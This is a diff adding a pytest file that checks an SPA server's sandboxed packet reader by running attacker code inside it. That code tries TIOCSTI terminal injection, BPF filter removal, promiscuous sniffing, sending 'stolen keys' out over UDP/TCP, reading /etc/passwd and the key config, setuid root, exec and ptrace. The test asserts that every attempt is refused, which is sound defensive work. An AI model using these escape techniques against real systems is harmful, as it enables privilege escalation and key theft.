@@ -1,0 +1,195 @@
+"""The packet reader's confinement, tested as an attacker who runs code inside it.
+
+Each test starts a real spa.py server in network namespaces (real capture, real nftables)
+whose packet reader runs attacker code after its privilege drop and sandbox
+(compromised_reader.py), and checks that every OS-level attack fails, that the root
+parent stays up and that a good knock still opens.  The pipe-protocol attacks
+(malformed requests to the parent) build on the same harness.
+"""
+
+import os
+import re
+import signal
+import time
+
+import pytest
+
+import spa
+from compromised_reader import CompromisedServer, run_in_reader
+from netns_lab import Lab, wait_for_line
+from test_spa import SERVICE_PORT, children, need_nft, proc_status, timed_knock
+
+# Every OS-level attack of issue 12, as code run inside the reader.  Each `attempt` must
+# end "refused ERRNO"; "DONE ..." is an attack that got through.
+ATTACKS = r'''
+SOL_SOCKET, SO_ATTACH_FILTER, SO_DETACH_FILTER, SO_LOCK_FILTER = 1, 26, 27, 44
+SOL_PACKET, PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC = 263, 1, 1
+libc = ctypes.CDLL(None, use_errno=True)
+capture = sockets[0]
+# An IPv4/UDP frame from this host to the client, as the cooked capture socket would send it.
+frame = bytes.fromhex("450000210000400040110000c6120101") + socket.inet_aton(client) + \
+    bytes.fromhex("0035270f000d0000") + b"spoof"
+to_client = (interface, 0x0800, 0, 0, b"\xff" * 6)
+
+
+def libc_call(name, *args):
+    if getattr(libc, name)(*args) == -1:
+        e = ctypes.get_errno()
+        raise OSError(e, os.strerror(e))
+
+
+# 1. The terminal: push a command into it (TIOCSTI), through any descriptor or /dev/tty.
+seen = set()
+worked = []
+for fd in range(64):
+    try:
+        for ch in b"echo PWNED-BY-READER\n":
+            fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
+        worked.append(fd)
+    except OSError as e:
+        seen.add(errno.errorcode.get(e.errno, str(e.errno)))
+report("tiocsti", "DONE on fds %s" % worked if worked else "refused " + ",".join(sorted(seen)))
+attempt("open_dev_tty", os.open, "/dev/tty", os.O_RDWR)
+
+# 2. The capture socket: take the filter off and sniff, put a wide one on, unlock it,
+# listen promiscuously, move it, send or write frames through it.
+attempt("detach_filter", capture.setsockopt, SOL_SOCKET, SO_DETACH_FILTER, 0)
+accept_all = struct.pack("HBBI", 0x06, 0, 0, 0xFFFF)
+program = ctypes.create_string_buffer(accept_all)
+attempt("attach_wide_filter", capture.setsockopt, SOL_SOCKET, SO_ATTACH_FILTER,
+        struct.pack("HL", 1, ctypes.addressof(program)))
+attempt("unlock_filter", capture.setsockopt, SOL_SOCKET, SO_LOCK_FILTER, 0)
+attempt("promiscuous", capture.setsockopt, SOL_PACKET, PACKET_ADD_MEMBERSHIP,
+        struct.pack("iHH8s", ifindex, PACKET_MR_PROMISC, 0, b""))
+attempt("receive_buffer", capture.setsockopt, SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
+attempt("bind_capture", capture.bind, (interface, 0x0003))
+attempt("sendto_capture", capture.sendto, frame, to_client)
+attempt("sendmsg_capture", capture.sendmsg, [frame], [], 0, to_client)
+attempt("write_capture", os.write, capture.fileno(), frame)
+report("sniff_ready", "yes")
+frames = wait_go(5)            # the test sends other traffic, then the marker
+others = [f for f in frames or () if f[0] >> 4 != 4 or f[9] != 17
+          or struct.unpack("!H", f[(f[0] & 15) * 4 + 2:(f[0] & 15) * 4 + 4])[0] != 62201]
+report("sniff", "error: no marker" if frames is None else "DONE saw %d frames the filter "
+       "should drop" % len(others) if others else "refused: only what the filter passes")
+
+# 3. New sockets of every kind, connecting out: the keys never leave this way.
+def udp_out():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    return s.sendto(b"stolen keys", (client, 9999))
+def tcp_out():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    return s.connect((client, 9999))            # the test listens there
+attempt("udp_socket", udp_out)
+attempt("tcp_connect", tcp_out)
+attempt("udp6_socket", socket.socket, socket.AF_INET6, socket.SOCK_DGRAM)
+attempt("raw_socket", socket.socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+attempt("packet_socket", socket.socket, socket.AF_PACKET, socket.SOCK_RAW, 0x0300)
+attempt("netlink_socket", socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, 12)
+attempt("unix_socket", socket.socket, socket.AF_UNIX, socket.SOCK_DGRAM)
+attempt("socketpair", socket.socketpair)
+
+# 4. Files: the config (keys), the replay cache, anything at all; new descriptors.
+attempt("read_config", lambda: open(config).read())
+attempt("read_replay_cache", lambda: open(replay, "rb").read())
+attempt("read_passwd", lambda: open("/etc/passwd").read())
+attempt("create_file", lambda: open("/tmp/spa-reader-attack-%d" % os.getpid(), "w"))
+attempt("pipe", os.pipe)
+attempt("dup", os.dup, pipe)
+attempt("write_stdout", os.write, 1, b"forged log line\n")
+attempt("write_stderr", os.write, 2, b"forged log line\n")
+
+# 5. Processes: fork, signal or trace the root parent, become root, leave the sandbox.
+def fork():
+    pid = os.fork()
+    if pid == 0:
+        os._exit(0)
+    return pid
+attempt("fork", fork)
+attempt("kill_parent", os.kill, os.getppid(), signal.SIGKILL)
+attempt("setuid_root", os.setuid, 0)
+attempt("user_namespace", libc_call, "unshare", 0x10000000)
+attempt("dumpable", libc_call, "prctl", 4, 1, 0, 0, 0)
+attempt("raise_file_limit", resource.setrlimit, resource.RLIMIT_NOFILE, (1024, 1024))
+attempt("ioctl", fcntl.ioctl, capture.fileno(), 0x8913, struct.pack("16sH22s", interface.encode(), 0, b""))
+attempt("executable_memory", mmap.mmap, -1, 4096, prot=mmap.PROT_READ | mmap.PROT_EXEC)
+'''
+
+EXEC = r'''
+report("exec", "trying")
+os.execv("/bin/sh", ["sh", "-c", "exit 0"])
+'''
+
+PTRACE = r'''
+report("ptrace", "trying")
+ctypes.CDLL(None, use_errno=True).ptrace(16, os.getppid(), 0, 0)     # PTRACE_ATTACH
+report("ptrace", "DONE: still alive after ptrace")
+'''
+
+
+def send_other_traffic(lab):
+    """What the capture filter must keep from the reader: UDP to another port, TCP, and
+    datagrams to the knock port too long to be a knock."""
+    from netns_lab import tcp_connect_ok, udp_send
+    for _ in range(5):
+        udp_send(lab.name("cli1"), Lab.srv4(1), 9, b"x" * 200)
+        udp_send(lab.name("cli1"), Lab.srv4(1), spa.DEFAULT_PORT, b"y" * 600)
+        tcp_connect_ok(lab.name("cli1"), Lab.srv4(1), SERVICE_PORT, timeout=0.05)
+
+
+def refused(outcomes):
+    """The attacks that got through (or broke): {} when every one was refused."""
+    return {name: text for name, text in outcomes.items()
+            if name != "sniff_ready" and not text.startswith("refused")}
+
+
+@pytest.fixture
+def legacy_tiocsti():
+    """TIOCSTI as on kernels before 6.2, where it types into any terminal one shares:
+    dev.tty.legacy_tiocsti = 1 for the test where the sysctl exists (restored after)."""
+    path = "/proc/sys/dev/tty/legacy_tiocsti"
+    if not os.path.exists(path):
+        yield                          # an older kernel: TIOCSTI always works like that
+        return
+    with open(path) as f:
+        before = f.read().strip()
+    if before != "1":
+        with open(path, "w") as f:
+            f.write("1")
+    try:
+        yield
+    finally:
+        if before != "1":
+            with open(path, "w") as f:
+                f.write(before)
+
+
+def test_a_compromised_reader_can_do_nothing_but_read_packets(tmp_path, legacy_tiocsti):
+    """Issue 12: attacker code in the reader (after its privilege drop and sandbox), with the
+    server in a terminal, tries every OS-level attack; each fails, the parent stays up,
+    knocks still open, and readers that the kernel kills are replaced."""
+    need_nft()
+    with Lab(clients=1, prefix="sbx") as lab:
+        lab.tcp_service("srv", Lab.srv4(1), SERVICE_PORT)
+        lab.tcp_service("cli1", Lab.cli4(1), 9999)        # where stolen keys would go
+        server = CompromisedServer(lab, tmp_path, [ATTACKS, EXEC, PTRACE], tty=True).start()
+        server.wait_report(0, "sniff_ready")
+        send_other_traffic(lab)
+        server.go()
+        outcomes = server.outcomes(0)
+        assert len(outcomes) >= 30 and refused(outcomes) == {}, refused(outcomes)
+        assert server.tty_input() == b""                  # nothing was typed into the terminal
+        assert "PWNED" not in server.log.text()           # nor echoed by it
+        assert timed_knock(lab, "cli1", Lab.srv4(1)) is not None     # reader 0 still works
+        # Reader 1 tries exec, reader 2 ptrace: the kernel kills each; the parent goes on.
+        mark = server.log.mark()
+        os.kill(server.reader_pid(), signal.SIGKILL)
+        for index in (1, 2):
+            server.wait_report(index, "exec" if index == 1 else "ptrace")
+            wait_for_line(server, r"packet reader stopped \(killed by signal 31", 5, since=mark)
+            mark = server.log.mark()
+        assert "DONE" not in server.log.text()
+        time.sleep(0.5)                       # reader 3 (the plain one) takes over
+        assert server.proc.poll() is None and server.reader_pid() is not None
+        lab.run("srv", ["nft", "flush", "set", "inet", "spa", "allow4"])
+        assert timed_knock(lab, "cli1", Lab.srv4(1)) is not None
